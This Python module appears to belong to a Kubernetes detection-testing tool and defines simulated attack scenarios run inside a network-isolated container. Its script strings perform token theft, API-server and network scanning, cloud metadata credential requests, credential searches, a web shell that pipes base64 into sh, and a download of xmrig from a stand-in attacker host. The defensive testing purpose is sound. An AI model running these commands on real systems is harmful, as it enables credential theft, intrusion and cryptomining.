"""Simulation scenarios (issue 9, detections catalog section 4): declarative records.

A scenario starts one victim container (``--network none``, kubelet-style labels), runs its
steps (``docker exec`` argv lists, or audit events posted to the audit webhook) and names the
detections that must arrive (catalog ids, matched on the ``mamori.<id>`` tag), those that may,
and those that must not. The attack steps go the catalog's way: a script delivered as
``echo <base64> | base64 -d | sh`` to a shell whose parent is ``php-fpm``, as the web server's
user. Every network step is a connect attempt that fails inside the container (it has no
network): the sensor sees the attempt, nothing leaves the machine.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from mamori.simulate import audit_events as ae
from mamori.simulate.audit_events import SIM_NAMESPACE, fresh_events
from mamori.simulate.judge import ANY, Expect, Want
from mamori.simulate.policy import ALLOWED_TOOL, QUIET_NAMESPACE

__all__ = [
    "ANY",
    "SCENARIOS",
    "SIM_NAMESPACE",
    "Audit",
    "ClusterActions",
    "Exec",
    "Scenario",
    "fresh_events",
]

DRIFT_RULE = "A drift binary detected executing in the container"
DRIFT_FALCO_RULE = "mamori drop and execute new binary in container"  # the rules-file twin
SHELL_RULE = "mamori terminal shell in container"
WEB_USER = "nginx"
PHP_FPM = "/usr/sbin/php-fpm"
API_SERVER = "10.96.0.1"  # the usual ``kubernetes`` Service address (KUBERNETES_SERVICE_HOST)
IMDS = "169.254.169.254"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path

# Catalog titles, for "missing alert: <id> (<title>)".
TITLES: Mapping[str, str] = {
    "MAM-CP-005": "Container with a sensitive volume mount",
    "MAM-CP-007": "Creation of admission webhook configuration",
    "MAM-CP-012": "Exposed Redis service",
    "MAM-CP-014": "Kubernetes events deleted",
    "MAM-CP-018": "Privileged container detected",
    "MAM-CP-019": "Role binding to the cluster-admin role",
    "MAM-CP-020": "Suspicious Kubernetes service account operation",
    "MAM-CP-021": "Exec into pod",
    "MAM-RT-009": "Detected suspicious file download",
    "MAM-RT-012": "Digital currency mining related behavior",
    "MAM-RT-015": "mamori test alert (not a threat)",
    "MAM-RT-017": "Possible backdoor detected",
    "MAM-RT-020": "Possible Cryptocoinminer download",
    "MAM-RT-025": "Process associated with digital currency mining",
    "MAM-RT-030": "Suspicious request to Kubernetes API",
    "MAM-RT-034": "Possible malicious web shell",
    "MAM-RT-035": "Burst of reconnaissance commands",
    "MAM-RT-038": "Access to cloud metadata service",
    "MAM-RT-040": "A drift binary detected executing in the container",
    "MAM-RT-041": "Blocked binary drift executing in the container",
    "MAM-RT-042": "Network scanning tool detected",
    "MAM-RT-043": "Suspicious access to service account token",
    "MAM-RT-044": "Sensitive files access",
    "MAM-RT-045": "Possible secret reconnaissance",
    "MAM-RT-046": "Kubernetes CPU optimization (modprobe msr)",
    "MAM-RT-047": "Command within a container accessed ld.so.preload",
    "MAM-RT-048": "Communication with test domain identified by threat intelligence",
    "MAM-RT-049": "Potential base64 encoded shell script execution",
}


def title(want: Want) -> str:
    key = want.id if isinstance(want, Expect) else want
    return TITLES.get(key, key)


@dataclass(frozen=True)
class Exec:
    """``docker exec`` into the victim; ``tty`` gives the process a controlling terminal."""

    argv: tuple[str, ...]
    tty: bool = False
    user: str | None = None
    typed: bytes = b""  # with ``tty``: written to the terminal after a second (a session's input)


@dataclass(frozen=True)
class Audit:
    """Audit events (``Event`` objects, corpus shape) posted as one EventList to the webhook.

    ``auditID``, timestamps and the simulation annotation are set per run (``fresh_events``).
    """

    events: tuple[Mapping[str, Any], ...]


@dataclass(frozen=True)
class ClusterActions:
    """``--control-plane real`` on a cluster: S9's trio done with ``kubectl`` in the run's
    namespace (a privileged pod that is never scheduled, the victim's ServiceAccount bound to
    cluster-admin for a moment, an exec into the victim pod) and the namespace's events
    deleted; the API server's audit log, shipped to mamori, raises the alerts."""


Step = Exec | Audit | ClusterActions


@dataclass(frozen=True)
class Scenario:
    name: str
    description: str
    steps: tuple[Step, ...]
    expected: tuple[Want, ...] = ()
    may_raise: tuple[Want, ...] = ()
    must_not: tuple[Want, ...] = ()
    catalog: str = ""  # the catalog's scenario number (S0...S9)
    namespace: str = SIM_NAMESPACE
    container: str = "victim"
    labels: Mapping[str, str] = field(default_factory=dict)
    time_limit_s: float = 60.0  # the catalog's runtime limit; audit-only scenarios: 120
    settle_s: float = 2.0  # after the last expected alert (or, expecting none: how long to watch)
    optional: bool = False  # run only when named (needs a signal or setup not in every mamori up)
    note: str = ""

    @property
    def needs_container(self) -> bool:
        return any(isinstance(s, Exec | ClusterActions) for s in self.steps)


def web_shell(script: str) -> Exec:
    """The catalog's delivery: ``echo <base64> | base64 -d | sh`` under php-fpm, as nginx."""
    payload = base64.b64encode(script.encode()).decode()
    return Exec((PHP_FPM, f"echo {payload} | base64 -d | sh"), user=WEB_USER)


def sh(script: str) -> Exec:
    """``kubectl exec`` into the victim (root, no web shell)."""
    return Exec(("/bin/sh", "-c", script))


def drift(verdict: str) -> Expect:
    return Expect("MAM-RT-040", (("drift.verdict", verdict),))


DRIFT_ALLOWED: tuple[Want, ...] = ("MAM-RT-040", DRIFT_FALCO_RULE, DRIFT_RULE)

# -- scripts (S8 joins them) ------------------------------------------------------------------

RECON = f"""\
cat {TOKEN} >/dev/null
wget -q -O /dev/null -U kubectl --header "Authorization: Bearer $(cat {TOKEN})" \\
  --post-data '{{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1",\
"spec":{{"resourceAttributes":{{"namespace":"default","verb":"get","resource":"pods"}}}}}}' \\
  https://{API_SERVER}/apis/authorization.k8s.io/v1/selfsubjectaccessreviews
nc -w 1 {API_SERVER} 443 </dev/null
nmap -Pn --open -p 443 {API_SERVER}/24
true
"""

LATERAL = f"""\
wget -q -O /dev/null --header "Metadata-Flavor: Google" \\
  http://{IMDS}/computeMetadata/v1/instance/service-accounts/default/token
printf 'PUT /latest/api/token HTTP/1.1\\r\\nX-aws-ec2-metadata-token-ttl-seconds: 60\\r\\n\\r\\n' \\
  | nc -w 1 {IMDS} 80
wget -q -O /dev/null http://{IMDS}/latest/meta-data/iam/security-credentials/mamori-sim
wget -q -O /dev/null --header "Metadata: true" \\
  "http://{IMDS}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
true
"""

SECRETS = f"""\
find / -name .git-credentials 2>/dev/null
cat /home/user/.git-credentials >/dev/null
cat {TOKEN} >/dev/null
set | grep -E 'AWS_SECRET_ACCESS_KEY=|GOOGLE_DEFAULT_CLIENT_SECRET=|AZURE_CREDENTIAL_FILE='
true
"""

# busybox-static's ``wget -T`` crashes; without a network every connect fails at once anyway.
MINING = """\
/sbin/modprobe msr allow_writes=on
touch /etc/ld.so.preload
cd /tmp
wget -q http://mamori-sim-attacker/xmrig || cp /attacker/xmrig /tmp/xmrig
chmod +x xmrig && ./xmrig
true
"""

TI_DOMAIN = 'wget -q -O /dev/null --post-data "" "http://ti-test.mamori.invalid/?SendingData"\n'

SEED = "cp /bin/echo /tmp/mamori-test-alert && /tmp/mamori-test-alert hi"

DRIFT_STEPS = (
    # a. a file from the attacker, copied in and run: drift-new
    sh("cp /attacker/tool /tmp/tool && chmod +x /tmp/tool && /tmp/tool"),
    # b. an image file made executable: image-copyup, nothing
    sh("chmod +x /usr/bin/id && /usr/bin/id"),
    # c. an image file overwritten with other content: drift-modified
    sh("cat /attacker/tool > /usr/bin/whoami && /usr/bin/whoami"),
    # e. a copy deleted before it is exec'd through its open fd: drift-deleted
    sh("cp /attacker/tool /tmp/tool3 && /usr/local/bin/fdexec --del /tmp/tool3"),
)

_WEB = ("MAM-RT-034", "MAM-RT-049")

SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario(
            name="test-alert",
            catalog="S0",
            description="kubectl exec: copy echo to mamori-test-alert and run it",
            steps=(sh(SEED),),
            expected=("MAM-RT-015",),
            may_raise=DRIFT_ALLOWED,
        ),
        Scenario(
            name="reconnaissance",
            catalog="S1",
            description="web shell: read the SA token, ask the API server with it, scan",
            steps=(web_shell(RECON), Audit((ae.SELF_SUBJECT_REVIEW,))),
            expected=(*_WEB, "MAM-RT-043", "MAM-RT-030", "MAM-CP-020", "MAM-RT-042"),
            may_raise=("MAM-RT-035",),
        ),
        Scenario(
            name="cloud-lateral-movement",
            catalog="S2",
            description="web shell: GCP, AWS and Azure metadata token requests (fail locally)",
            steps=(web_shell(LATERAL),),
            expected=(*_WEB, "MAM-RT-038"),
        ),
        Scenario(
            name="secrets-gathering",
            catalog="S3",
            description="web shell: find + read .git-credentials, the SA token, grep the env",
            steps=(web_shell(SECRETS),),
            expected=(*_WEB, "MAM-RT-044", "MAM-RT-043", "MAM-RT-045"),
            may_raise=("MAM-RT-038",),
        ),
        Scenario(
            name="crypto-mining",
            catalog="S4",
            description="web shell: modprobe msr, touch ld.so.preload, fetch and run xmrig",
            steps=(web_shell(MINING),),
            expected=(
                *_WEB,
                "MAM-RT-046",
                "MAM-RT-047",
                "MAM-RT-020",
                "MAM-RT-040",
                "MAM-RT-025",
                "MAM-RT-012",
            ),
            may_raise=("MAM-RT-009", "MAM-RT-017", *DRIFT_ALLOWED),
        ),
        Scenario(
            name="web-shell",
            catalog="S5",
            description="one web-shell request: whoami under php-fpm",
            steps=(Exec((PHP_FPM, "whoami"), user=WEB_USER),),
            expected=("MAM-RT-034",),
        ),
        Scenario(
            name="ti-domain",
            catalog="S6",
            description="web shell: HTTP POST to the TI test domain (resolution fails locally)",
            steps=(web_shell(TI_DOMAIN),),
            # Detected on the attempt: the command line names the TI domain (DNS query events,
            # the catalog's other signal, are not collected yet).
            expected=(*_WEB, "MAM-RT-048"),
        ),
        Scenario(
            name="binary-drift",
            catalog="S7",
            description="drift-new, image-copyup (nothing), drift-modified, drift-deleted",
            steps=DRIFT_STEPS,
            expected=(drift("drift-new"), drift("drift-modified"), drift("drift-deleted")),
            may_raise=("MAM-RT-009", *DRIFT_ALLOWED),
            must_not=(
                Expect("MAM-RT-040", (("proc.exepath", "/usr/bin/id"),)),
                Expect(DRIFT_RULE, (("proc.exepath", "/usr/bin/id"),)),
            ),
        ),
        Scenario(
            name="drift-allowlist",
            catalog="S7f",
            description="an allow-listed drift binary raises nothing, another one alerts",
            steps=(
                sh(f"cp /attacker/tool {ALLOWED_TOOL} && {ALLOWED_TOOL}"),
                sh("cp /attacker/tool2 /tmp/tool2 && /tmp/tool2"),
            ),
            expected=(Expect("MAM-RT-040", (("proc.exepath", "/tmp/tool2"),)),),  # noqa: S108
            may_raise=DRIFT_ALLOWED,
            must_not=(
                Expect("MAM-RT-040", (("proc.exepath", ALLOWED_TOOL),)),
                Expect(DRIFT_RULE, (("proc.exepath", ALLOWED_TOOL),)),
            ),
            optional=True,
            note="needs mamori up --drift-policy with the simulation rules "
            "(mamori simulate --print-drift-policy)",
        ),
        Scenario(
            name="drift-ignored",
            catalog="S7h",
            description="drift in mamori-sim-quiet, under an ignore rule: nothing",
            namespace=QUIET_NAMESPACE,
            steps=(sh("cp /attacker/tool /tmp/tool && /tmp/tool"),),
            # the rules-file twin judges the verdict, not the policy: it still fires
            may_raise=(DRIFT_FALCO_RULE,),
            must_not=("MAM-RT-040", DRIFT_RULE),
            settle_s=4.0,
            optional=True,
            note="needs mamori up --drift-policy with the simulation rules "
            "(mamori simulate --print-drift-policy)",
        ),
        Scenario(
            name="all",
            catalog="S8",
            description="S1, S2, S3, S4 in one web-shell payload",
            steps=(web_shell(RECON + LATERAL + SECRETS + MINING), Audit((ae.SELF_SUBJECT_REVIEW,))),
            expected=(
                *_WEB,
                "MAM-RT-043",
                "MAM-RT-030",
                "MAM-CP-020",
                "MAM-RT-042",
                "MAM-RT-038",
                "MAM-RT-044",
                "MAM-RT-045",
                "MAM-RT-046",
                "MAM-RT-047",
                "MAM-RT-020",
                "MAM-RT-040",
                "MAM-RT-025",
                "MAM-RT-012",
            ),
            may_raise=("MAM-RT-035", "MAM-RT-009", "MAM-RT-017", *DRIFT_ALLOWED),
            optional=True,
            note="the union of S1-S4; run it by name",
        ),
        Scenario(
            name="control-plane",
            catalog="S9",
            description="audit events: reference samples, exec into pod, privileged pod, "
            "cluster-admin binding, a webhook, events deleted",
            steps=(
                Audit(
                    (
                        *ae.SAMPLES,
                        ae.EXEC_INTO_POD,
                        ae.PRIVILEGED_POD,
                        ae.CLUSTER_ADMIN_BINDING,
                        ae.WEBHOOK,
                        ae.DELETE_EVENTS,
                    )
                ),
            ),
            expected=(
                "MAM-CP-018",
                "MAM-CP-012",
                "MAM-CP-019",
                "MAM-CP-007",
                "MAM-CP-014",
                "MAM-CP-021",
            ),
            must_not=("MAM-CP-005",),
            time_limit_s=120.0,
        ),
        Scenario(
            name="terminal-shell",
            description="an interactive shell in the container (docker exec -it)",
            steps=(Exec(("sh",), tty=True, typed=b"exit\n"),),
            expected=(SHELL_RULE,),
            must_not=(DRIFT_RULE, "MAM-RT-040"),
        ),
        Scenario(
            name="benign",
            description="ordinary image binaries, no terminal: nothing may be raised",
            steps=(
                Exec(("/bin/true",)),
                Exec(("/bin/ls", "/")),
                Exec(("/bin/cat", "/etc/passwd")),
            ),
            must_not=(ANY,),
            settle_s=4.0,
        ),
    )
}


CONTROL_PLANE_REAL = Scenario(
    name="control-plane",
    catalog="S9",
    description="kubectl: a privileged pod, cluster-admin bound to the victim's ServiceAccount, "
    "exec into the victim pod, events deleted (needs the cluster's audit log shipped to mamori)",
    steps=(ClusterActions(),),
    expected=("MAM-CP-018", "MAM-CP-019", "MAM-CP-021", "MAM-CP-014"),
    must_not=("MAM-CP-005",),
    time_limit_s=120.0,
)


def default_run() -> list[Scenario]:
    """What ``mamori simulate`` runs without names: every scenario but the optional ones."""
    return [s for s in SCENARIOS.values() if not s.optional]
